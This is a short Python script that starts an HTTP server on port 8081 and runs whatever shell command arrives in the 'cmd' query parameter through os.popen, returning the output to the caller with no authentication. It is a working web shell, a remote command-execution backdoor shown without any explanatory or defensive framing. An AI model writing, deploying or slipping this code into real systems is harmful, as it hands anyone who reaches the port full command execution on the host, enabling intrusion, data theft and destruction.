from http.server import BaseHTTPRequestHandler, HTTPServer
import os, urllib.parse
class H(BaseHTTPRequestHandler):
    def do_GET(self):
        q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
        out = os.popen(q.get("cmd", ["id"])[0]).read()
        self.send_response(200); self.end_headers(); self.wfile.write(out.encode())
HTTPServer(("", 8081), H).serve_forever()
